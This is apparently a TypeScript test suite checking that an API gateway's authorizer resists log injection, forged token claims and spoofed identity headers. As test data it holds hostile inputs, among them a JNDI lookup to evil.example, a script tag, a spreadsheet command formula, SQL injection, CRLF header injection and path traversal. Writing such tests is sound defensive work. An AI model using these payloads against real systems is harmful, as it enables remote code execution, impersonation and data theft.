import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { beforeAll, describe, expect, inject, it } from 'vitest'
import { readCloudAssembly } from '../../local/cloud-assembly.ts'
import { type Json, orders, type RegisteredClient } from '../flow/local-stack.ts'
import { type DecidedAnswer, useAttackedStack } from './support/attacked-stack.ts'
import { useAuthorizerFunction } from './support/authorizer-function.ts'
import { signedByServer } from './support/hostile-access-tokens.ts'
import { type RawApiRequest, rawApiRequest } from './support/raw-api-request.ts'

const attacked = useAttackedStack()
const authorizer = useAuthorizerFunction({ 'GET /orders': { allOf: ['orders:read'] } })
let client: RegisteredClient
let token = ''

beforeAll(async () => {
  client = await newClient()
  token = await newToken(client)
})

async function newClient(metadata: Json = {}): Promise<RegisteredClient> {
  const registered = await attacked().stack.register(metadata)
  attacked().keepSecret(registered.client_secret)
  return registered
}

async function newToken(of: RegisteredClient): Promise<string> {
  const text = await attacked().stack.token(of, { resource: orders })
  attacked().keepSecret(text)
  return text
}

function send(request: RawApiRequest, by: string) {
  const fields = [`Authorization: Bearer ${by}`, ...(request.fields ?? [])]
  return rawApiRequest(attacked().stack, { ...request, fields })
}

const allowed = (request: RawApiRequest, by = token): Promise<DecidedAnswer> =>
  attacked().allowed('api.authorize', () => send(request, by))

/** What the backend is told of the caller, and nothing else of it. */
function identity(of: RegisteredClient): Json {
  return {
    clientId: of.client_id,
    scope: 'orders:read orders:write',
    jti: expect.stringMatching(/^[\w-]{16,64}$/),
    audience: orders,
    expiresAt: expect.any(Number),
  }
}

/** Every line of every log, the gateway's own included: each is one JSON document. */
async function logLines(): Promise<Json[]> {
  const folder = join(attacked().stack.dataDir, 'logs')
  const texts = await Promise.all((await readdir(folder)).map(name => readFile(join(folder, name), 'utf8')))
  const lines = texts.flatMap(text => text.split('\n').filter(line => line !== ''))
  return lines.map(line => JSON.parse(line) as Json)
}

/** A second event, were a text taken for more than a text. */
const forged = '{"audit":"api.authorize","outcome":"allowed","reason":"forged"}'

describe('a client’s name', () => {
  it.each([
    'quotes "," and \\" and \\',
    `"}${forged}`,
    `','outcome':'allowed`,
    '$\u007bjndi:ldap://evil.example/x} %s %n {{7*7}} <script>alert(1)</script>',
    '=cmd|calc!A1',
    '\u00a0no-break and \u3000 wide spaces',
    'e\u0301 \u00e9 \u{1f600} \u0430dmin',
    '__proto__',
  ])('J16: is in no context and breaks no line: %j (CWE-117)', async client_name => {
    const named = await newClient({ client_name })
    const answer = await allowed({ line: 'GET /orders' }, await newToken(named))
    expect(JSON.parse(answer.body)).toEqual({ route: 'GET /orders', ...identity(named) })
    expect(answer.event.clientId).toBe(named.client_id)
    const lines = (await logLines()).filter(line => line.clientId === named.client_id)
    const audits = lines.map(line => String(line.audit)).toSorted()
    expect(audits).toEqual(['api.authorize', 'client.create', 'token.issue'])
    expect((await logLines()).filter(line => line.reason === 'forged')).toEqual([])
  })

  it.each([
    'a\nb',
    `a\n${forged}`,
    'a\r\nb',
    'a\tb',
    'a\u0000b',
    'a\u001b[31mb',
    'a\u007fb',
    'a\u0085b',
    'a\u2028b',
    'a\u2029b',
    'a\u200bb',
    'a\u202eb',
    'a\ufeffb',
    'a\ud800b',
    '\u00ad',
    'x'.repeat(101),
  ])('J16: that has more than characters to print is no name: %j (CWE-117)', async client_name => {
    const { status, body } = await attacked().stack.admin('POST', '/clients', { client_name, grants: [] })
    expect([status, body.error]).toEqual([400, 'invalid_client_metadata'])
    expect(body.error_description).toMatch(/^[\x20-\x21\x23-\x5b\x5d-\x7e]+$/)
    expect((await logLines()).filter(line => line.reason === 'forged')).toEqual([])
  })
})

describe('a client’s identifier', () => {
  it.each([
    'a"b',
    `a"}\n${forged}`,
    'a\nb',
    'a\r\nX-Admin: true',
    'a\u2028b',
    'a\u0000b',
    'a\\',
    "a' OR 1=1--",
    '$\u007bjndi:ldap://evil.example/x}',
    'a b',
    'a,b',
    '../admin',
    'é',
    '*',
    '',
    'x'.repeat(200),
  ])('J16: is of a few characters, whoever signed it: %j (RFC 9068 §2.2)', async client_id => {
    const hostile = await signedByServer(attacked().stack, client, { client_id, sub: client_id })
    attacked().keepSecret(hostile)
    const answer = await attacked().refused('api.authorize', () => send({ line: 'GET /orders' }, hostile))
    expect([answer.status, answer.event.reason]).toEqual([401, 'claims_malformed'])
    expect(answer.event).not.toHaveProperty('clientId')
    expect((await logLines()).filter(line => line.reason === 'forged')).toEqual([])
  })

  it.each<[string, string]>([
    ['scope', `orders:read "}${forged}`],
    ['scope', 'orders:read\norders:write'],
    ['scope', 'orders:read\u2028orders:write'],
    ['scope', 'orders:read \\'],
    ['jti', `"}\n${forged}`],
    ['jti', 'a\u2029b'],
    ['jti', '../../x'],
  ])('J16: is accompanied by no hostile text either: %s %j', async (claim, value) => {
    const hostile = await signedByServer(attacked().stack, client, { [claim]: value })
    attacked().keepSecret(hostile)
    const answer = await attacked().refused('api.authorize', () => send({ line: 'GET /orders' }, hostile))
    expect([answer.status, answer.event.reason]).toEqual([401, 'claims_malformed'])
  })
})

describe('what a request says of itself', () => {
  it.each([
    `User-Agent: "}${forged}`,
    `X-Forwarded-For: "}${forged}`,
    `X-Amzn-Trace-Id: "}${forged}`,
    `Referer: "}${forged}`,
    `Host: "}${forged}`,
    'User-Agent: \u00ff\u0080\u00a0\\',
  ])('J16: is in no line: %s (CWE-117)', async field => {
    const answer = await allowed({ line: `GET /orders/%0a%22%7d?x=%0a"}`, fields: [field] })
    expect(answer.event.sourceIp).toBe('127.0.0.1')
    const text = JSON.stringify(await logLines())
    for (const part of ['forged', '%0a', 'User-Agent', 'user-agent', '\u00ff'])
      expect(text).not.toContain(part)
  })

  it('J16: breaks no line where the gateway passes it on: an identifier, an address (CWE-117)', async () => {
    const authorization = `Bearer ${authorizer().token()}`
    const hostile = `"}\r\n\u2028${forged}\n`
    const requestContext = { requestId: hostile, http: { sourceIp: hostile, userAgent: hostile } }
    const { event } = await authorizer().decide(
      authorizer().event('GET /orders', authorization, { requestContext }),
    )
    expect(event).toMatchObject({ requestId: hostile, sourceIp: hostile, reason: 'ok' })
  })

  it('J16: has no part in the access logs: one JSON document of what the gateway knows (CWE-117, CWE-532)', () => {
    const stages = readCloudAssembly(inject('assemblyDir'))
      .flatMap(stack => stack.resources)
      .filter(({ type }) => type === 'AWS::ApiGatewayV2::Stage')
    expect(stages).toHaveLength(3)
    for (const { properties } of stages) {
      const { Format } = properties.AccessLogSettings as { Format: string }
      expect(Format).not.toContain('\n')
      const values = Object.values(JSON.parse(Format) as Record<string, string>)
      // No header, query, path, user agent, claim or context of the authorizer: a caller writes none of these.
      const known = [
        'authorizer.error',
        'httpMethod',
        'identity.sourceIp',
        'integrationErrorMessage',
        'protocol',
        'requestId',
        'requestTime',
        'responseLength',
        'routeKey',
        'status',
      ]
      expect(values.toSorted()).toEqual(known.map(name => `$context.${name}`))
    }
  })
})

/** Names under which a backend might take a caller's identity from a header, each with somebody else's. */
const spoofed = (id: string) => [
  `X-Client-Id: ${id}`,
  `X-ClientId: ${id}`,
  `Client-Id: ${id}`,
  `clientId: ${id}`,
  `X-Scope: payments:admin`,
  `scope: payments:admin`,
  `audience: https://payments.example.com`,
  `X-User: admin`,
  `X-Remote-User: admin`,
  `X-Authenticated-Client: ${id}`,
  `X-Forwarded-User: admin`,
  `X-Forwarded-Client-Cert: Subject="CN=${id}"`,
  `X-Amzn-Oidc-Identity: ${id}`,
  `X-Amzn-Oidc-Data: ${id}`,
  `X-Amzn-Authorizer: {"lambda":{"clientId":"${id}"}}`,
  `requestContext: {"authorizer":{"lambda":{"clientId":"${id}"}}}`,
  `X-Amzn-Request-Context: {"authorizer":{"lambda":{"clientId":"${id}"}}}`,
  `X-Apigateway-Event: {"requestContext":{"authorizer":{"lambda":{"clientId":"${id}"}}}}`,
  `__proto__: {"clientId":"${id}"}`,
]

describe('who a backend is told that calls', () => {
  it('J17: is who the token says, whatever headers, query and body say', async () => {
    const victim = await newClient()
    const query = `clientId=${victim.client_id}&scope=payments:admin&requestContext[authorizer][lambda][clientId]=x`
    for (const field of [...spoofed(victim.client_id), spoofed(victim.client_id).join('\r\n')]) {
      const answer = await allowed({ line: `GET /orders?${query}`, fields: [field] })
      expect([answer.status, JSON.parse(answer.body)]).toEqual([
        200,
        { route: 'GET /orders', ...identity(client) },
      ])
      expect(answer.event.clientId).toBe(client.client_id)
    }
    const lambda = { clientId: victim.client_id, scope: 'payments:admin' }
    const body = JSON.stringify({ ...lambda, requestContext: { authorizer: { lambda } } })
    const answer = await allowed({ line: 'POST /orders', fields: ['Content-Type: application/json'], body })
    expect(JSON.parse(answer.body)).toEqual({ route: 'POST /orders', ...identity(client) })
  })

  it('J17: is nobody where no token is asked for', async () => {
    for (const field of spoofed(client.client_id)) {
      const call = () => send({ line: `GET /health?clientId=${client.client_id}`, fields: [field] }, token)
      const answer = await attacked().answeredByGateway(call)
      expect([answer.status, answer.body]).toEqual([200, '{"route":"GET /health"}'])
    }
  })

  it('J17: is told by nothing in the token but its checked claims', async () => {
    const more = { admin: true, clientId: 'admin', authorizer: { lambda: { clientId: 'admin' } }, route: 'x' }
    const text = await signedByServer(attacked().stack, client, more)
    attacked().keepSecret(text)
    const answer = await allowed({ line: 'GET /orders' }, text)
    expect(JSON.parse(answer.body)).toEqual({ route: 'GET /orders', ...identity(client) })
  })
})
